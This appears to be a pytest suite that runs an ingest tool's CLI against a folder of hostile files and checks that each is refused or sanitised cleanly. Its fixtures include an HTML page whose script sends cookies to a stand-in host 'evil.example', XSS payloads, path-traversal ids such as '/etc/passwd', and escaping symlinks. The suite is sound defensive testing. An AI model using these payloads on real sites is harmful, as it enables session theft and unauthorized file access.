"""Hostile files through the ingest CLI (real subprocesses, real index): each gets a clear one-line message, nothing
outside the index is touched, and the index keeps exactly what it had plus the legitimate documents."""

from __future__ import annotations

import json
import os
import random
import re
import time
from pathlib import Path

import pytest
from adv_util import index_state, run_ingest, snapshot

from qa.config import SEEDS_DIR, load_settings
from qa.errors import InputFileError
from qa.index.store import open_index
from qa.ingest.readers import read_path

GOOD = """---
id: good-article
title: Council approves budget
source: Test Wire
---
The city council approved next year's budget on Tuesday after a long debate, the mayor's office said.
"""

SCRIPT_HTML = """<!DOCTYPE html><html><head><title>Market report</title>
<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
<style>body { background: url("javascript:alert(1)") }</style></head>
<body><article><h1>Market report</h1>
<p onclick="alert('click')">Shares rose on Monday as investors welcomed the central bank's decision.</p>
<img src="x" onerror="alert('img')"><iframe src="javascript:alert('frame')"></iframe>
<a href="javascript:alert('link')">Analysts</a> said the rally could continue.
<noscript><script>alert('nested')</script></noscript>
<p>&lt;script&gt;escaped text stays text&lt;/script&gt; was printed in the article.</p>
<script type="module">import("https://evil.example/x.js")</script>
</article></body></html>"""

DEEP = 100_000


def _hostile_corpus(root: Path, outside: Path) -> dict[str, str]:
    """Write the hostile folder; returns {file name: regex its error message must match} for refused files."""
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "good.md").write_text(GOOD, encoding="utf-8")
    expect: dict[str, str] = {}

    # Path traversal in ids and names: ids are sanitised, nothing is written anywhere.
    (corpus / "traversal.json").write_text(json.dumps([
        {"id": "../../../outside/pwned", "text": "A traversal attempt in an id field, written as a news sentence."},
        {"id": "/etc/passwd", "text": "An absolute path as an id, also written as a short news sentence."},
    ]), encoding="utf-8")
    (corpus / "..%2F..%2Fescape.txt").write_text("A file whose name looks like an encoded path traversal.",
                                                  encoding="utf-8")
    (corpus / "evil\x1b[31mred\x07.txt").write_bytes(b"\x00\x01\x02 binary under a name with terminal escapes")
    expect["evil"] = r"binary"

    # Symlinks leading out of the folder, to a file and to a folder, plus a loop back into the folder.
    (corpus / "secret_link.txt").symlink_to(outside / "secret.txt")
    (corpus / "outside_dir").symlink_to(outside)
    (corpus / "loop").symlink_to(corpus)
    expect["secret_link.txt"] = r"symlink points outside"
    expect["outside_dir"] = r"symlink points outside"

    # Huge: a sparse 6 MB file (over the 5 MB default) and one with a 5 MB single line of "!?" (chunker stress).
    with (corpus / "huge.txt").open("wb") as fh:
        fh.truncate(6 * 1024 * 1024)
    expect["huge.txt"] = r"over the 5 MB limit"
    (corpus / "punct.txt").write_text("Start. " + "!?" * 2_000_000 + " End.", encoding="utf-8")

    # Deep nesting: JSON, a JSONL line, YAML front matter, HTML and Markdown emphasis.
    (corpus / "deep.json").write_text("[" * DEEP + "]" * DEEP, encoding="utf-8")
    expect["deep.json"] = r"nested too deeply"
    (corpus / "deep.jsonl").write_text("[" * DEEP + "]" * DEEP + "\n" + json.dumps(
        {"id": "jsonl-ok", "text": "The second line of this JSONL file is a normal article."}) + "\n", encoding="utf-8")
    expect["deep.jsonl"] = r"line 1: JSON is nested too deeply"
    (corpus / "deep_yaml.md").write_text("---\nx: " + "[" * DEEP + "]" * DEEP + "\n---\nBody.\n", encoding="utf-8")
    expect["deep_yaml.md"] = r"front matter is nested too deeply"
    (corpus / "deep.html").write_text("<div>" * DEEP + "Deeply nested text." + "</div>" * DEEP, encoding="utf-8")
    (corpus / "emphasis.md").write_text("*" * DEEP + "emphasis" + "*" * DEEP, encoding="utf-8")

    # Binary and broken text.
    rng = random.Random(7)
    (corpus / "random.txt").write_bytes(bytes(rng.randrange(256) for _ in range(20_000)))
    expect["random.txt"] = r"binary"
    (corpus / "image.txt").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(256) for _ in range(2000)))
    expect["image.txt"] = r"binary"
    (corpus / "program.md").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 200)
    expect["program.md"] = r"binary"
    (corpus / "bad_utf8.txt").write_bytes(b"\xc3\x28\xa0\xa1\xe2\x28\xa1\xf0\x28\x8c\xbc\xf0\x90\x28\xbc\x81\x8d"
                                          b"\x8f\x90\x9d\xff\xfe\xfd" * 30)
    expect["bad_utf8.txt"] = r"not valid UTF-8|binary"
    (corpus / "bad_bom.txt").write_bytes(b"\xff\xfe" + b"\x00\xd8")  # UTF-16 BOM, then a lone surrogate
    expect["bad_bom.txt"] = r"byte-order mark but is not valid"

    # HTML with scripts.
    (corpus / "scripts.html").write_text(SCRIPT_HTML, encoding="utf-8")

    # Empty files.
    (corpus / "zero.txt").write_bytes(b"")
    expect["zero.txt"] = r"file is empty"
    (corpus / "blank.md").write_text(" \n\t\n", encoding="utf-8")
    expect["blank.md"] = r"file is empty"
    (corpus / "nul.json").write_text("null", encoding="utf-8")
    expect["nul.json"] = r"expected a JSON object"

    # A FIFO named like an article must not block the walk.
    os.mkfifo(corpus / "pipe.txt")
    return expect


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    outside = root / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("TOP SECRET: this text lives outside the corpus folder.", encoding="utf-8")
    db = root / "db"
    settings = load_settings({"db": str(db)})
    first = run_ingest(SEEDS_DIR, "--db", db)
    assert first.returncode == 0, first.stderr
    expect = _hostile_corpus(root, outside)
    before_state = index_state(settings)
    before_files = snapshot(root, skip=db)
    started = time.perf_counter()
    result = run_ingest(root / "corpus", "--db", db, "--json", timeout=1800)
    seconds = time.perf_counter() - started
    print(f"\nhostile folder ingested in {seconds:.1f} s")
    return {"root": root, "db": db, "settings": settings, "expect": expect, "result": result,
            "before_state": before_state, "before_files": before_files}


def test_every_hostile_file_gets_a_clear_one_line_message(hostile_run):
    result = hostile_run["result"]
    assert result.returncode == 1  # some files failed, the others were ingested
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
    # Terminal escapes and bells in file names are shown escaped, never sent to the terminal.
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "evil\\x1b[31mred\\x07.txt: looks like a binary file" in result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    for name, pattern in hostile_run["expect"].items():
        mine = [e for e in errors if name in e]
        assert mine, f"no message names {name!r}:\n{result.stderr}"
        assert any(re.search(pattern, e) for e in mine), (name, mine)
    report = json.loads(result.stdout)
    assert report["failed"] == len(errors) - 1  # the deep JSONL line is a per-item error in a file that worked
    assert not any("pipe.txt" in e for e in errors)  # the FIFO is not a regular file: skipped, never opened


def test_nothing_outside_the_index_is_touched(hostile_run):
    root = hostile_run["root"]
    assert snapshot(root, skip=hostile_run["db"]) == hostile_run["before_files"]
    assert not (root / "pwned").exists() and not (root / "outside" / "pwned").exists()


def test_index_holds_the_old_documents_plus_only_the_legitimate_new_ones(hostile_run):
    settings = hostile_run["settings"]
    before, after = hostile_run["before_state"], index_state(settings)
    for doc_id, content_hash in before.docs.items():
        assert after.docs[doc_id] == content_hash  # the seeds are untouched
    new = set(after.docs) - set(before.docs)
    # "..%2F..%2Fescape.txt" starts with "." so the folder walk skips it like any hidden file.
    assert new == {"good-article", "outside-pwned", "etc-passwd", "jsonl-ok", "deep", "emphasis", "punct",
                   "scripts"}, new
    index = open_index(settings)
    texts = {d: index.get_document(d).text for d in new}
    assert not any("TOP SECRET" in t for t in texts.values())  # the symlinked secret was not read
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", d) for d in after.docs)  # no "/" can reach a path
    assert texts["deep"] == "Deeply nested text."
    assert texts["emphasis"] == "emphasis"
    assert texts["punct"].startswith("Start. ") and texts["punct"].endswith(" End.")


def test_html_scripts_are_never_part_of_the_text(hostile_run):
    text = open_index(hostile_run["settings"]).get_document("scripts").text
    assert "Shares rose on Monday" in text and "Analysts said the rally could continue." in text
    for bad in ("fetch(", "document.cookie", "alert", "javascript", "onerror", "onclick", "import(", "background"):
        assert bad not in text, bad
    # Script-looking text the page escaped is article text, kept literally (the UI escapes it when showing it).
    assert "<script>escaped text stays text</script>" in text


def test_rerun_changes_nothing(hostile_run):
    before = index_state(hostile_run["settings"])
    again = run_ingest(hostile_run["root"] / "corpus", "--db", hostile_run["db"], "--json", timeout=1800)
    assert again.returncode == 1
    report = json.loads(again.stdout)
    assert report["added"] == report["updated"] == 0 and report["chunks_written"] == 0
    assert index_state(hostile_run["settings"]) == before


def test_explicit_special_paths_are_refused_clearly(tmp_path):
    fifo = tmp_path / "named.txt"
    os.mkfifo(fifo)
    (tmp_path / "notes.pdf").write_bytes(b"%PDF-1.7")
    result = run_ingest(fifo, tmp_path / "missing.md", tmp_path / "notes.pdf", "--db", tmp_path / "db", timeout=300)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "named.txt: cannot be read: it is not a regular file" in result.stderr
    assert "missing.md: no such file or directory" in result.stderr
    assert "notes.pdf: unsupported file type '.pdf'" in result.stderr


@pytest.mark.parametrize("payload", [
    "[" * DEEP + "]" * DEEP,
    '{"text": "x", "meta": ' + "{\"a\": " * DEEP + "1" + "}" * DEEP + "}",
    '{"text": ' + "[" * 5000 + "]" * 5000 + "}",
])
def test_deep_json_raises_only_input_file_error(tmp_path, payload):
    path = tmp_path / "deep.json"
    path.write_text(payload, encoding="utf-8")
    with pytest.raises(InputFileError, match="deep.json: "):
        read_path(path, max_bytes=50 * 1024 * 1024)


def test_two_thousand_tiny_files_ingest(tmp_path):
    corpus = tmp_path / "tiny"
    corpus.mkdir()
    for i in range(2000):
        (corpus / f"t{i:04d}.txt").write_text(f"Tiny article {i} says the council met on day {i}.", encoding="utf-8")
    db = tmp_path / "db"
    started = time.perf_counter()
    result = run_ingest(corpus, "--db", db, "--json", timeout=1800)
    seconds = time.perf_counter() - started
    print(f"\n2,000 tiny files: {seconds:.1f} s through the CLI")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert (report["added"], report["failed"], report["chunks_written"]) == (2000, 0, 2000)
    state = index_state(load_settings({"db": str(db)}))
    assert len(state.docs) == 2000 and state.rows == 2000
